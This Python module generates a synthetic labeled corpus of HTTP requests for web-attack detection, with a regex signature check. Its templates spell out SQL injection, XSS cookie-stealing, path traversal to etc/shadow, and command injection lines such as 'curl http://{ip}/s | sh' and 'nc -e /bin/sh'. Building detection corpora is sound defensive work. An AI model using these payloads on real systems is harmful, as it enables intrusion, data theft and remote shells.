"""Seeded synthetic mini-corpus of labeled HTTP requests in five classes.

``valid`` mixes plain traffic (layer-1 label 0) with benign anomalies such
as typos and punctuation-heavy form input (layer-1 label 1). The four attack
classes are injected into a parameter, the body or a cookie of otherwise
ordinary requests, with randomized case, spacing and encoding.
"""
from __future__ import annotations

import re
from urllib.parse import quote, quote_plus

from .datasets import CLASSES, LabeledRecord, record_from_request
from .http_model import decode_fixpoint
from .rng import substream

SOURCE = "synthetic"
BENIGN_ANOMALY_SHARE = 0.4

HOSTS = ["shop.example.com", "www.example.org", "portal.example.net", "app.example.io"]
# One client profile: the corpus models traffic to a single application, so the
# inspected headers are constant apart from the session token.
USER_AGENT = "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"
FIRST = ["john", "mary", "ahmed", "sara", "li", "olga", "pedro", "fatima", "kenji", "anna", "omar",
         "lucas", "emma", "noah", "maya", "ivan", "chen", "laura", "yusuf", "nina"]
LAST = ["smith", "garcia", "hassan", "kim", "novak", "silva", "tanaka", "brown", "khan", "muller",
        "rossi", "ivanova", "nguyen", "lopez", "jensen", "ali", "wright", "costa"]
WORDS = ["blue", "shoes", "laptop", "bag", "summer", "dress", "phone", "case", "garden", "chair",
         "coffee", "mug", "winter", "jacket", "desk", "lamp", "running", "socks", "book", "camera",
         "travel", "wallet", "kitchen", "knife", "gift", "card", "watch", "band", "table", "sofa"]
CATEGORIES = ["electronics", "fashion", "home", "sports", "books", "toys", "beauty", "garden"]
DOMAINS = ["mail.com", "example.com", "inbox.org", "post.net"]
PAGES = ["/", "/index.html", "/about", "/help/faq", "/static/css/main.css", "/static/js/app.js",
         "/images/logo.png", "/blog", "/news/latest", "/contact"]
TABLES = ["users", "accounts", "admin", "customers", "orders", "members", "passwords"]
COLUMNS = ["username", "password", "email", "id", "name", "pass", "login", "hash"]
FILES = ["etc/passwd", "etc/shadow", "etc/hosts", "etc/group", "proc/self/environ",
         "windows/win.ini", "boot.ini", "var/log/apache2/access.log", "etc/issue",
         "usr/local/app/config.php", "inetpub/wwwroot/web.config"]
COMMANDS = ["cat /etc/passwd", "id", "whoami", "uname -a", "ls -la", "ls /", "pwd", "netstat -an",
            "ps aux", "cat /etc/shadow", "wget http://{ip}/x.sh", "curl http://{ip}/s | sh",
            "nc -e /bin/sh {ip} {port}", "ping -c 3 {ip}", "bash -i", "sleep {n}", "echo {tok}",
            "cmd.exe /c dir", "type c:\\windows\\win.ini", "rm -rf /tmp/{tok}"]


def _word(rng):
    return rng.choice(WORDS)


def _name(rng):
    return rng.choice(FIRST), rng.choice(LAST)


def _ip(rng):
    return f"{rng.randint(10, 223)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"


def _tok(rng, n=8):
    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(n))


def _rand_case(rng, s):
    mode = rng.random()
    if mode < 0.45:
        return s.lower()
    if mode < 0.8:
        return s.upper()
    return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in s)


# --- normal traffic ------------------------------------------------------------

def _normal_get(rng):
    kind = rng.randrange(8)
    if kind == 0:
        return rng.choice(PAGES), []
    if kind == 1:
        return "/search", [("q", "+".join(_word(rng) for _ in range(rng.randint(1, 3)))),
                           ("page", str(rng.randint(1, 20)))]
    if kind == 2:
        return "/products/view", [("id", str(rng.randint(1, 99999)))]
    if kind == 3:
        return f"/category/{rng.choice(CATEGORIES)}", [("sort", rng.choice(["price", "name", "date"])),
                                                      ("dir", rng.choice(["asc", "desc"]))]
    if kind == 4:
        return f"/blog/{rng.randint(2015, 2025)}/{rng.randint(1, 12):02d}/{_word(rng)}-{_word(rng)}", []
    if kind == 5:
        return "/account/orders", [("status", rng.choice(["open", "shipped", "closed"])),
                                   ("limit", str(rng.choice([10, 25, 50])))]
    if kind == 6:
        return "/api/items", [("category", rng.choice(CATEGORIES)), ("offset", str(rng.randint(0, 500)))]
    first, last = _name(rng)
    return "/profile", [("user", f"{first}{rng.randint(1, 999)}")]


def _normal_form(rng):
    kind = rng.randrange(4)
    first, last = _name(rng)
    if kind == 0:
        return "/login", [("user", f"{first}.{last}"), ("pass", _tok(rng, rng.randint(8, 14)))]
    if kind == 1:
        return "/register", [("first", first.title()), ("last", last.title()),
                             ("email", f"{first}.{last}@{rng.choice(DOMAINS)}")]
    if kind == 2:
        msg = "+".join(_word(rng) for _ in range(rng.randint(3, 8)))
        return "/contact", [("name", f"{first.title()}+{last.title()}"), ("message", msg)]
    return "/cart/add", [("item", str(rng.randint(1, 99999))), ("qty", str(rng.randint(1, 5)))]


# --- benign anomalies ----------------------------------------------------------

def _benign_value(rng):
    first, last = _name(rng)
    w1, w2 = _word(rng), _word(rng)
    choices = [
        lambda: f"{first.title()}+%26+{last.title()}+(jr)",
        lambda: f"{first[:2]}%26{first[2:]};",
        lambda: f"O'{last.title()}",
        lambda: f"{last.title()}+%26+Sons+(Ltd.)",
        lambda: f"Great+{w1}!!!+(5/5)+;)",
        lambda: f"I'm+happy+with+the+\"{w1}\"+{w2}",
        lambda: f"50%25+off+{w1}?!",
        lambda: f"({rng.randint(200, 999)})+{rng.randint(100, 999)}-{rng.randint(1000, 9999)}",
        lambda: f"C%23+%26+C%2B%2B+{w1}",
        lambda: f"{w1}+<3+{w2}",
        lambda: f"price+<+{rng.randint(10, 99)}+%26%26+>+{rng.randint(1, 9)}",
        lambda: f"{first}'s+{w1}+{{new}}",
        lambda: f"#{w1}+#{w2}+#{rng.randint(1, 99)}",
        lambda: f"{w1};{w2};{_word(rng)}",
        lambda: f"\"{w1}\"+|+\"{w2}\"",
        lambda: f"<{first}@{rng.choice(DOMAINS)}>",
        lambda: f"{w1}...({w2})???",
        lambda: f"%22{w1}%22+(or+{w2})",
        lambda: f"from+{w1}+and+{w2}+:-)",
    ]
    return rng.choice(choices)()


def _benign_anomaly(rng):
    if rng.random() < 0.5:
        path, params = _normal_form(rng)
    else:
        path, params = _normal_get(rng)
        if not params:
            path, params = "/search", [("q", _word(rng))]
    k = rng.randrange(len(params))
    params[k] = (params[k][0], _benign_value(rng))
    return path, params


# --- attacks ----------------------------------------------------------------------

def _sqli(rng):
    n = rng.randint(1, 9999)
    t, c1, c2 = rng.choice(TABLES), rng.choice(COLUMNS), rng.choice(COLUMNS)
    q = rng.choice(["'", '"', ""])
    templates = [
        f"{n}{q} or {q}1{q}={q}1",
        f"{n}{q} or 1=1-- ",
        f"{q} or {q}x{q}={q}x",
        f"{n}{q} union select {c1},{c2} from {t}--",
        f"-{n} union all select null,{c1},{c2} from {t}#",
        f"{n}; drop table {t}--",
        f"{n}{q} and sleep({rng.randint(1, 10)})#",
        f"{n}{q} and benchmark({rng.randint(100000, 9000000)},md5(1))--",
        "admin" + (q or "'") + "--",
        f"{n}{q}; insert into {t} ({c1}) values ('{_tok(rng, 5)}')--",
        f"{n}{q} or {q}{rng.randint(1, 9)}{q}>{q}0",
        f"{n}{q}; update {t} set {c1}='{_tok(rng, 5)}' where id={rng.randint(1, 99)}--",
        f"{n} and 1=convert(int,(select top 1 {c1} from {t}))",
        f"{q}) or ({q}a{q}={q}a",
        f"{n}{q} union select @@version,null--",
        f"{n} or exists(select * from {t})",
        f"{n}{q} and extractvalue(1,concat(0x7e,(select {c1} from {t} limit 1)))--",
        f"{n}{q}; exec xp_cmdshell('dir')--",
        f"{n}{q} or sleep({rng.randint(1, 9)})={q}",
        f"1{q} order by {rng.randint(1, 12)}--",
    ]
    s = rng.choice(templates)
    if rng.random() < 0.25:
        s = s.replace(" ", "/**/")
    return _rand_case(rng, s)


def _xss(rng):
    msg = rng.choice(["1", "'xss'", "document.cookie", "document.domain", "/xss/", "String.fromCharCode(88,83,83)"])
    tag = rng.choice(["img", "svg", "body", "iframe", "video", "input", "details", "a"])
    ev = rng.choice(["onerror", "onload", "onmouseover", "onfocus", "onclick", "ontoggle"])
    templates = [
        f"<script>alert({msg})</script>",
        f"\"><script>alert({msg})</script>",
        f"<img src=x {ev}=alert({msg})>",
        f"<{tag} {ev}=alert({msg})>",
        f"<svg/onload=alert({msg})>",
        f"javascript:alert({msg})",
        f"<iframe src=\"javascript:alert({msg})\"></iframe>",
        f"'><{tag} src=x {ev}=prompt({msg})>",
        f"<script src=http://{_ip(rng)}/x.js></script>",
        f"<a href=\"javascript:confirm({msg})\">{_word(rng)}</a>",
        f"<body {ev}=eval(atob('{_tok(rng, 12)}'))>",
        f"<script>document.location='http://{_ip(rng)}/?c='+document.cookie</script>",
        f"<details open ontoggle=alert({msg})>",
        f"<scr<script>ipt>alert({msg})</scr</script>ipt>",
    ]
    s = rng.choice(templates)
    if rng.random() < 0.3:
        s = _rand_case(rng, s)
    return s


def _traversal(rng):
    depth = rng.randint(2, 8)
    target = rng.choice(FILES)
    sep = rng.choice(["../", "..\\", "....//", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%5c", "..%252f"])
    prefix = rng.choice(["", "", "/var/www/images/", "files/", "./"])
    s = prefix + sep * depth + target
    if rng.random() < 0.2:
        s += "%00." + rng.choice(["png", "jpg", "html"])
    if "\\" in sep:
        s = s.replace("/", "\\")
    return s


def _cmdi(rng):
    cmd = rng.choice(COMMANDS).format(ip=_ip(rng), port=rng.randint(1024, 65000),
                                      n=rng.randint(2, 30), tok=_tok(rng, 6))
    base = rng.choice(["", "127.0.0.1", _word(rng), f"{_word(rng)}.txt", str(rng.randint(1, 999))])
    op = rng.choice(["; ", ";", " | ", "|", " && ", "&&", " || ", "\n", "`", "$("])
    if op == "`":
        return f"{base}`{cmd}`"
    if op == "$(":
        return f"{base}$({cmd})"
    return f"{base}{op}{cmd}"


ATTACKS = {"sqli": _sqli, "xss": _xss, "path_traversal": _traversal, "command_injection": _cmdi}
TRAVERSAL_PARAMS = ["file", "path", "page", "doc", "template", "include", "download"]
CMDI_PARAMS = ["host", "ip", "cmd", "ping", "file", "domain", "query"]


def _encode_value(rng, value: str, allow_raw_plus: bool = True) -> str:
    r = rng.random()
    if r < 0.35:
        return quote_plus(value, safe="")
    if r < 0.6:
        return quote(value, safe="")
    if r < 0.8:
        return quote(value, safe="/'()*,=<>;:")
    if r < 0.9:
        return quote(quote(value, safe=""), safe="")
    return value.replace(" ", "%20").replace("\n", "%0a").replace("#", "%23").replace("&", "%26").replace("+", "%2B")


def _attack(rng, cls):
    value = ATTACKS[cls](rng)
    if cls == "path_traversal":
        name = rng.choice(TRAVERSAL_PARAMS)
        path = rng.choice(["/download", "/view", "/static/load", "/index.php", "/image"])
        params = [(name, value)]
        if rng.random() < 0.2:
            return path + "/" + value.replace("%00", "%2500"), [], "GET", None
    elif cls == "command_injection":
        name = rng.choice(CMDI_PARAMS)
        path = rng.choice(["/tools/ping", "/admin/diag", "/api/lookup", "/cgi-bin/status.cgi", "/convert"])
        params = [(name, value)]
    else:
        if rng.random() < 0.5:
            path, params = _normal_get(rng)
            if not params:
                path, params = "/search", [("q", _word(rng))]
        else:
            path, params = _normal_form(rng)
    params = list(params)
    k = rng.randrange(len(params))
    params[k] = (params[k][0], None)
    slot = rng.random()
    if cls == "sqli" and slot < 0.1:
        return path, [(n, v) for n, v in params if v is not None], "GET", ("cookie", value)
    method = "POST" if rng.random() < 0.4 else "GET"
    encoded = _encode_value(rng, value)
    params[k] = (params[k][0], encoded)
    return path, params, method, None


def _build_request(rng, path, params, method, inject=None) -> str:
    host = rng.choice(HOSTS)
    headers = [("Host", host), ("User-Agent", USER_AGENT),
               ("Accept", rng.choice(["text/html,application/xhtml+xml", "*/*", "application/json"]))]
    cookie = f"session={_tok(rng, 16)}"
    if inject and inject[0] == "cookie":
        cookie += f"; id={quote(inject[1], safe='')}"
    headers.append(("Cookie", cookie))
    query = "&".join(f"{n}={v}" for n, v in params)
    body = ""
    if method == "POST" and params:
        body = query
        target = path
        headers.append(("Content-Type", "application/x-www-form-urlencoded"))
        headers.append(("Content-Length", str(len(body.encode()))))
    else:
        method = "GET"
        target = path + ("?" + query if query else "")
    headers.append(("Connection", rng.choice(["keep-alive", "close"])))
    head = f"{method} {target} HTTP/1.1\r\n" + "".join(f"{k}: {v}\r\n" for k, v in headers)
    return head + "\r\n" + body


# --- rule check ------------------------------------------------------------------

_RULES = {
    "sqli": re.compile(
        r"\b(union(\s|/\*\*/)+(all(\s|/\*\*/)+)?select|select\b.*\bfrom|insert(\s|/\*\*/)+into|"
        r"drop(\s|/\*\*/)+table|update\b.*\bset|sleep\s*\(|benchmark\s*\(|order(\s|/\*\*/)+by|"
        r"exists\s*\(|xp_cmdshell|@@version)|['\")](\s|/\*\*/)*(or|and)\b|\bor(\s|/\*\*/)+\d+=\d+|'\s*--|"
        r"\bor\b.*['\"]\s*[=>]|(\s|/\*\*/)(or|and)(\s|/\*\*/)+['\"]?\w+['\"]?\s*[=>]|['\"]\s*(--|#)", re.I),
    "xss": re.compile(r"<\s*script|\bon\w+\s*=|javascript:|<\s*(svg|img|iframe|body|details)\b", re.I),
    "path_traversal": re.compile(r"\.\.[/\\]|\.\.\.\.//|(^|[/\\])(etc[/\\](passwd|shadow|hosts|group|issue)|"
                                 r"windows[/\\]win\.ini|boot\.ini|proc[/\\]self)", re.I),
    "command_injection": re.compile(
        r"([;|`\n]|&&|\$\()\s*(cat|id|whoami|uname|ls|pwd|netstat|ps|wget|curl|nc|ping|bash|sleep|echo|cmd\.exe|"
        r"type|rm)\b", re.I),
}


def rule_check(text: str) -> bool:
    """Generous signature check: True if any attack family pattern matches the decoded text."""
    decoded = decode_fixpoint(text, 8)[0]
    return any(p.search(decoded) for p in _RULES.values())


def generate_corpus(size: int = 2000, seed: int = 42, *,
                    benign_anomaly_share: float = BENIGN_ANOMALY_SHARE) -> list[LabeledRecord]:
    """Generate ``size`` unique labeled requests, split evenly across the five classes."""
    if size < len(CLASSES):
        raise ValueError(f"size must be >= {len(CLASSES)}")
    rng = substream(seed, "corpus")
    per_class = [size // len(CLASSES) + (1 if i < size % len(CLASSES) else 0)
                 for i in range(len(CLASSES))]
    seen: set[str] = set()
    records: list[LabeledRecord] = []
    for cls, count in zip(CLASSES, per_class):
        made = 0
        n_benign = round(count * benign_anomaly_share) if cls == "valid" else 0
        while made < count:
            if cls == "valid":
                anomalous = made < n_benign
                if anomalous:
                    path, params = _benign_anomaly(rng)
                else:
                    path, params = (_normal_form if rng.random() < 0.3 else _normal_get)(rng)
                method = "POST" if path in ("/login", "/register", "/contact", "/cart/add") else "GET"
                raw = _build_request(rng, path, params, method)
                l1 = 1 if anomalous else 0
            else:
                path, params, method, inject = _attack(rng, cls)
                raw = _build_request(rng, path, params, method, inject)
                l1 = 1
            if raw in seen:
                continue
            seen.add(raw)
            records.append(record_from_request(raw, l1_label=l1, attack_class=cls, source=SOURCE))
            made += 1
    rng.shuffle(records)
    return records


def self_test(records: list[LabeledRecord]) -> list[LabeledRecord]:
    """Attack records the rule check fails to recognise (empty means the corpus passes)."""
    return [r for r in records if r.is_attack and not rule_check(r.text())]
